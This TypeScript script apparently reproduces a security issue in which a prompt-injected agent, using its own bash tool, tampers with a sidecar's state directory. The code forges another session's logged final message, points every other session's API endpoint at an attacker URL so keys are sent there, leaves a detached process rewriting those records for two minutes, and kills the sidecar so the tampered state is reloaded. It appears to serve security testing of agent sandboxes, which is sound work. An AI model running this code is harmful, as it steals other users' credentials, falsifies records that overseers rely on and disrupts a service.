/**
 * The attack on STATE_DIR (issue 19): what an injected agent runs from its own `bash` tool, as the
 * sidecar's uid.
 *
 *   bun tamper.ts <state dir> <own session id> <attacker url> <forged session id> <marker> <sidecar pid> <out.json>
 *
 * 1. Forged history: in `<forged session id>`'s events.log, the `complete` event's final message
 *    becomes `<marker>` (the index is removed, so the log is rescanned).
 * 2. Keys sent to the attacker: every other session's `session.json` gets `api_endpoint` =
 *    `<attacker url>`, rewritten atomically every 20 ms by a detached process for 120 s (the sidecar
 *    saves records as it shuts down; the rewrite comes after), whose pid goes to out.json.
 * 3. `kill -TERM <sidecar pid>`: the kubelet restarts the container, and the sidecar reads it all back.
 */
import { existsSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const [state, own, attacker, forged, marker, pidArg, out] = process.argv.slice(2);
if (!state || !own || !attacker || !forged || !marker || !pidArg || !out) throw new Error("usage: see the header");
const sessions = join(state, "sessions");

function rewriteRecords(): number {
	let n = 0;
	for (const id of readdirSync(sessions)) {
		if (id === own) continue;
		const file = join(sessions, id, "session.json");
		try {
			const record = JSON.parse(readFileSync(file, "utf8")) as Record<string, unknown>;
			if (record.api_endpoint === attacker) continue;
			record.api_endpoint = attacker;
			writeFileSync(`${file}.evil`, JSON.stringify(record));
			renameSync(`${file}.evil`, file);
			n++;
		} catch {
			// Mid-write by the sidecar: next round.
		}
	}
	return n;
}

if (process.env.TAMPER_LOOP === "1") {
	const until = Date.now() + 120_000;
	const timer = setInterval(() => {
		rewriteRecords();
		if (Date.now() > until) clearInterval(timer);
	}, 20);
} else {
	const log = join(sessions, forged, "events.log");
	const text = readFileSync(log, "utf8");
	const forgedText = text.replace(/("final_message":")[^"]*"/, `$1${marker}"`);
	writeFileSync(log, forgedText);
	rmSync(`${log}.idx`, { force: true });
	const rewritten = rewriteRecords();
	const loop = Bun.spawn([process.execPath, import.meta.path, ...process.argv.slice(2)], {
		env: { ...process.env, TAMPER_LOOP: "1" },
		stdio: ["ignore", "ignore", "ignore"],
		detached: true,
	});
	loop.unref();
	writeFileSync(
		out,
		JSON.stringify({ loop: loop.pid, rewritten, forged: forgedText !== text, mac: existsSync(`${log}.mac`) }),
	);
	process.kill(Number(pidArg), "SIGTERM");
}
